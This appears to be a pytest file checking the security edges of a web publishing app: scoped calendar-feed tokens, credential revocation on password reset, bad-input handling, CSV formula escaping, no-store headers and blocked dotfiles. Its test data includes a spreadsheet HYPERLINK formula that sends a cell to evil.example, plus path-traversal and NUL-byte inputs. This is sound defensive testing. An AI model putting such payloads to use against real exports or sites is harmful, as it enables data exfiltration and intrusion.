"""The promises at the web app's edges: the read-only calendar-feed token, what a password reset ends,
bad input answered without a 500, CSV cells a spreadsheet would run, ``Cache-Control: no-store`` on
logged-in answers, and API docs that need no CDN."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from sqlmodel import select

from publisher import accounts
from publisher.counting import dashboard, ledger, periods, stats
from publisher.models import ApiToken, Item, WebSession
from publisher.pipeline import workflow
from tests.web.conftest import PASSWORD, make_item

ROOT = Path(__file__).resolve().parents[2]
sqlite_only = pytest.mark.parametrize("store_url", ["sqlite"], indirect=True)


def _api_token(app, name="ed"):
    with app.session() as s:
        return accounts.create_token(s, user=workflow.get_user(s, name), name="script")[0]


def _feed_token(app, name="ed"):
    with app.session() as s:
        return accounts.new_feed_token(s, user=workflow.get_user(s, name))


def _routes(webapp):
    """Every route (FastAPI keeps an included router as one entry; ours are included without a prefix)."""
    for r in webapp.routes:
        inner = getattr(r, "original_router", None)
        yield from (inner.routes if inner is not None else [r])


# ------------------------------------------------------------------------------ 13. the feed token
def test_the_feed_takes_only_a_feed_token_and_the_api_refuses_it(app, client, webapp):
    item_id = make_item(app, stage="scheduled", publish_at=datetime.now(UTC) + timedelta(days=2))
    feed = _feed_token(app)
    r = client.get(f"/calendar/mem.ics?token={feed}")
    assert r.status_code == 200 and "BEGIN:VEVENT" in r.text
    # a read-write API token in a calendar URL is refused: it would sit in access logs and calendar apps
    assert client.get(f"/calendar/mem.ics?token={_api_token(app)}").status_code == 401
    # the feed token opens no API route, reading or writing, and no page
    bearer = {"Authorization": f"Bearer {feed}"}
    for route in _routes(webapp):
        path = getattr(route, "path", "")
        if not path.startswith("/api/") or path.startswith("/api/docs") or path == "/api/openapi.json":
            continue
        url = path.replace("{item_id}", str(item_id)).replace("{delivery_id}", "1")
        for method in route.methods - {"HEAD", "OPTIONS"}:
            r = client.request(method, url, headers=bearer, json={"reason": "x", "approve": True})
            assert r.status_code == 401, (method, url, r.status_code)
    assert client.get("/items", headers=bearer).status_code == 401
    with app.session() as s:
        assert workflow.get_item(s, item_id).status == "scheduled"  # not withdrawn


def test_regenerating_the_feed_token_ends_the_old_one(app, client, login):
    old = _feed_token(app)
    csrf = login(client, "ed")
    page = client.post("/tokens/feed", data={"csrf_token": csrf})
    assert page.status_code == 200 and page.headers["cache-control"] == "no-store"
    new = re.search(r"/calendar/mem\.ics\?token=([\w-]+)", page.text).group(1)
    assert new != old
    client.cookies.clear()
    assert client.get(f"/calendar/mem.ics?token={old}").status_code == 401
    assert client.get(f"/calendar/mem.ics?token={new}").status_code == 200
    with app.session() as s:  # only its hash is stored, as for API tokens
        assert new not in {t.token_hash for t in s.exec(select(ApiToken))}


# -------------------------------------------------------------------- 14. a reset ends every credential
def test_a_password_reset_revokes_api_tokens_and_sessions(app, client, login):
    api = _api_token(app)
    login(client, "ed")
    assert client.get("/api/me", headers={"Authorization": f"Bearer {api}"}).status_code == 200
    with app.session() as s:
        accounts.set_password(s, name="ed", password=PASSWORD + "!", actor="admin")
    assert client.get("/items").status_code == 303  # the session is gone: back to log-in
    client.cookies.clear()
    assert client.get("/api/me", headers={"Authorization": f"Bearer {api}"}).status_code == 401
    with app.session() as s:
        ed = workflow.get_user(s, "ed")
        assert all(t.revoked_at is not None for t in s.exec(select(ApiToken).where(ApiToken.user_id == ed.id)))
        assert not s.exec(select(WebSession).where(WebSession.user_id == ed.id)).all()
    other = _api_token(app, "ed2")  # nobody else's
    assert client.get("/api/me", headers={"Authorization": f"Bearer {other}"}).status_code == 200


def test_a_password_reset_ends_the_feed_token(app, client):
    feed = _feed_token(app)
    assert client.get(f"/calendar/mem.ics?token={feed}").status_code == 200
    with app.session() as s:
        accounts.set_password(s, name="ed", password=PASSWORD + "!", actor="admin")
    assert client.get(f"/calendar/mem.ics?token={feed}").status_code == 401


# ------------------------------------------------------------------------------- 15. 4xx, never 500
def test_bad_input_at_the_edges_answers_4xx_with_a_message(app, client, login):
    token = _api_token(app)
    bearer = {"Authorization": f"Bearer {token}"}
    item_id = make_item(app)
    r = client.post("/api/items", content=b"title=x", headers={**bearer, "Content-Type": "text/plain"})
    assert r.status_code in (415, 422) and r.json()["detail"], r.text
    r = client.post(f"/api/items/{item_id}/withdraw", content=b"{}", headers={**bearer, "Content-Type": "text/plain"})
    assert r.status_code in (415, 422) and r.json()["detail"], r.text
    for url in (f"/api/items/{2**31}", f"/api/items/{2**63}", f"/api/items/{2**31}/deliveries"):
        r = client.get(url, headers=bearer)
        assert r.status_code in (404, 422) and r.json()["detail"], (url, r.text)
    assert client.post(f"/api/deliveries/{2**31}/retry", headers=bearer).status_code in (404, 422)
    # a NUL (PostgreSQL's text cannot hold one) in the address or in any text of a body
    r = client.get("/api/items?status=%00", headers=bearer)
    assert r.status_code == 400 and "NUL" in r.json()["detail"]
    assert client.get("/items?q=%00", headers=bearer).status_code == 400
    for url, body in (
        (f"/api/items/{item_id}/withdraw", {"reason": "\x00"}),
        ("/api/items", {"title": "a\x00", "body_markdown": "x", "category": "公告公示", "channels": ["mem"]}),
        (f"/api/items/{item_id}/review", {"approve": False, "reason": "\x00"}),
    ):
        r = client.post(url, json=body, headers=bearer)
        assert r.status_code == 422 and "NUL" in r.text, (url, r.text)
    assert client.patch(f"/api/items/{item_id}", json={"channels": ["\x00"]}, headers=bearer).status_code == 422
    with app.session() as s:
        assert workflow.get_item(s, item_id).status == "draft"
    login(client, "ed")
    assert client.get(f"/items/{2**31}").status_code == 404
    for url in (
        "/calendar?view=month&day=9999-12-31",
        "/calendar?view=week&day=0001-01-01",
        "/dashboard?period=custom&from=0001-01-01&to=9999-12-31",
        "/dashboard.csv?period=custom&from=0001-01-01&to=9999-12-31",
        "/api/stats?from=0001-01-01&to=9999-12-31",
    ):
        r = client.get(url)
        assert r.status_code == 422 and "9999" not in r.text[:0], (url, r.status_code)
    long_tz = "A" * 5000
    for url in (f"/items?tz={long_tz}", f"/calendar?tz={long_tz}", f"/api/stats?tz={long_tz}"):
        r = client.get(url)
        assert r.status_code in (200, 422), (url[:30], r.status_code)
    client.cookies.set("tz", long_tz)
    assert client.get("/items").status_code == 200  # a bad zone cookie is ignored, as a bad ?tz= is


# ------------------------------------------------------------------------------- 16. CSV formulas
def test_cell_rule():
    from publisher.counting import csvcells

    for bad in ('=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=1"):
        assert csvcells.cell(bad).startswith("'"), bad
        assert csvcells.unescape(csvcells.cell(bad)) == bad
    for fine in ("关于寒假", "a=b", "", "'quoted", "-5", "+3.25", "-0.5"):
        assert csvcells.cell(fine) == fine and csvcells.unescape(fine) == fine
    assert csvcells.cell(-5) == -5 and csvcells.cell(2.5) == 2.5 and csvcells.cell(None) is None


def test_only_csvcells_makes_csv_writers():
    for path in [*(ROOT / "publisher").rglob("*.py"), *(ROOT / "channels").rglob("*.py")]:
        if path.name == "csvcells.py":
            continue
        text = path.read_text(encoding="utf-8")
        assert "csv.writer(" not in text and "csv.DictWriter(" not in text, path


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_every_csv_export_neutralises_formulas(app, client, login):
    from publisher.counting import report
    from publisher.pipeline.worker import Dispatcher

    with app.session() as s:  # a category named like a formula reaches the count tables
        workflow.add_department(s, "+1+2", actor="test")
    make_item(app, stage="scheduled", publish_at=datetime.now(UTC), title=EVIL)
    with app.session() as s:
        item = s.exec(select(Item).where(Item.title == EVIL)).one()
        item.department = "+1+2"
    Dispatcher(engine=app.engine, ctx=app.ctx).run(once=True)
    login(client, "sec")
    year = datetime.now(app.settings.zone).year
    qs = f"from={year - 1}-01-01&to={year + 1}-12-31"
    texts = {
        f"dashboard {t}": client.get(f"/dashboard.csv?table={t}&period=custom&{qs}").text
        for t in ("department", "failures")
    }
    texts["ledger"] = ledger.export_csv(app.engine, app.settings.zone)
    s, e = periods.period(f"{year - 1}-01-01", f"{year + 1}-12-31", app.settings.zone)
    rows = stats.counts(app.engine, stats.StatsQuery(start=s, end=e, by=("department",), tz=app.settings.zone))
    texts["stats"] = stats.render(rows, ["department"], "csv")
    rep = report.build(app.engine, app.settings, start=f"{year - 1}-01-01", end=f"{year + 1}-12-31")
    texts["report"] = report.figures_csv(rep, app.settings)
    texts["direct"] = dashboard.to_csv([{"title": EVIL, "n": -5, "s": "-5"}])
    cells = {}
    for name, text in texts.items():
        cells[name] = {c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row}
        assert not any(c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-5") for c in cells[name]), name
    assert "'" + EVIL in cells["ledger"] and "'" + EVIL in cells["report"] and "'" + EVIL in cells["direct"]
    assert "'+1+2" in cells["stats"] and "'+1+2" in cells["dashboard department"]
    assert next(csv.reader(io.StringIO(texts["direct"].splitlines()[1])))[1:] == ["-5", "-5"]  # numbers stay


def test_ledger_export_still_imports_to_the_same_titles(app):
    make_item(app, stage="scheduled", publish_at=datetime.now(UTC), title=EVIL)
    from publisher.pipeline.worker import Dispatcher

    Dispatcher(engine=app.engine, ctx=app.ctx).run(once=True)
    text = ledger.export_csv(app.engine, app.settings.zone)
    with app.session() as s:
        parsed = ledger.parse_csv(app.ctx, s, text.lstrip("\ufeff").replace("memory://", "https://example.gov.cn/"))
    assert parsed[1] == [] and [r.title for r in parsed[0]] == [EVIL]


# ---------------------------------------------------------------------------------- 17. no-store
def _concrete(path: str) -> str:
    return (
        path.replace("{item_id}", "1")
        .replace("{delivery_id}", "1")
        .replace("{token_id}", "1")
        .replace("{name}", "ed")
        .replace("{channel}", "mem")
        .replace("{sha}", "0" * 64)
        .replace("{request_id}", "1")
        .replace("{complaint_id}", "1")
        .replace("{number}", "19")
    )


@sqlite_only
def test_every_answer_to_a_logged_in_request_says_no_store(app, client, login, webapp):
    make_item(app)
    api = {"Authorization": f"Bearer {_api_token(app, 'admin')}"}
    for r in (client.get("/login"), client.post("/login", data={"username": "x", "password": "y"})):
        assert r.headers.get("cache-control") == "no-store", r.request.url
    csrf = login(client, "admin")
    seen, seen_paths = 0, []
    for route in _routes(webapp):
        path = getattr(route, "path", "")
        methods = getattr(route, "methods", None) or {"GET"}
        if path in ("/static", "/site") or "{path" in path:
            continue
        for method in sorted(methods - {"HEAD", "OPTIONS"}):
            if path in ("/logout", "/admin/users/{name}/password") or (path.startswith("/tokens") and method == "POST"):
                continue  # they would end this session or change credentials
            url = _concrete(path)
            for headers in ({"X-CSRF-Token": csrf}, api):
                form = {"csrf_token": csrf} if method == "POST" else None
                r = client.request(method, url, headers=headers, data=form)
                assert r.headers.get("cache-control") == "no-store", (method, url, r.status_code)
                seen += 1
                seen_paths.append(url)
    assert seen > 40, seen_paths
    assert client.get("/site/").headers.get("cache-control") == "no-store"
    # a stranger's request to a public file may be cached
    client.cookies.clear()
    assert "no-store" not in client.get("/static/app.css").headers.get("cache-control", "")


# ------------------------------------------------------------------------------ 18. docs offline
class _Refs(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.urls += [v for k, v in attrs if k in ("src", "href") and v]


@sqlite_only
def test_api_docs_load_only_from_this_server(app, client):
    r = client.get("/api/docs")
    assert r.status_code == 200
    refs = _Refs()
    refs.feed(r.text)
    scripts = re.findall(r"""(?:url|src|href)\s*[:=]\s*['"]([^'"]+)['"]""", r.text)
    urls = set(refs.urls + scripts)
    assert any(u.endswith(".js") for u in urls) and any(u.endswith(".css") for u in urls), urls
    assert "cdn" not in r.text and "http://" not in r.text.replace("http://www.w3.org", "")
    csp = r.headers["content-security-policy"]
    assert "https:" not in csp and "jsdelivr" not in csp
    for u in urls:
        assert not urlsplit(u).scheme and not urlsplit(u).netloc, u
        got = client.get(u)
        assert got.status_code == 200, u
    assert "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]  # no inline script either


def test_swagger_ui_ships_in_the_package():
    import tomllib

    static = ROOT / "publisher" / "web" / "static" / "swagger-ui"
    assert (static / "swagger-ui-bundle.js").stat().st_size > 100_000 and (static / "swagger-ui.css").exists()
    data = tomllib.loads((ROOT / "pyproject.toml").read_text())
    assert "web/static/**/*" in data["tool"]["setuptools"]["package-data"]["publisher"]


@sqlite_only
def test_site_before_anything_was_published_is_not_found(app, client):
    from publisher.web import site_folder

    assert not site_folder(app).exists()
    r = client.get("/site/")
    assert r.status_code == 404 and "nothing published" in r.text


@sqlite_only
def test_the_site_folders_own_files_are_not_served(app, client):
    from publisher.web import site_folder

    folder = site_folder(app)
    (folder / "items").mkdir(parents=True)
    (folder / "index.html").write_text("<p>首页</p>", encoding="utf-8")
    for name in (".site.sqlite3", ".site.sqlite3-wal", ".lock", "_manifest.json.migrated"):
        (folder / name).write_bytes(b"SQLite format 3\x00 titles of withdrawn items")
    assert client.get("/site/index.html").status_code == 200
    for path in (
        "/site/.site.sqlite3",
        "/site/.site.sqlite3-wal",
        "/site/.lock",
        "/site/_manifest.json.migrated",
        "/site/items/../.site.sqlite3",
        "/site/%2esite.sqlite3",
        "/site/%2Elock",
    ):
        r = client.get(path)
        assert r.status_code == 404 and b"withdrawn" not in r.content, path


def test_a_nul_in_a_form_field_is_refused_before_the_store_sees_it(app, client, login):
    r = client.get("/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', r.text).group(1)
    r = client.post("/login", data={"username": "ed\x00", "password": "x" * 12, "csrf_token": token})
    assert r.status_code == 400 and "NUL" in r.text
    csrf = login(client, "admin")
    for url, form in (
        ("/tokens", {"name": "a\x00b"}),
        ("/items/new", {"title": "a\x00b", "body_markdown": "x", "category": "公告公示"}),
        ("/admin/users", {"name": "n\x00", "role": "viewer", "password": "x" * 12}),
        ("/admin/users/ed%00/password", {"password": "x" * 12}),
    ):
        r = client.post(url, data={**form, "csrf_token": csrf})
        assert r.status_code == 400, (url, r.status_code)
    with app.session() as s:
        assert not s.exec(select(ApiToken)).all() and not s.exec(select(Item)).all()
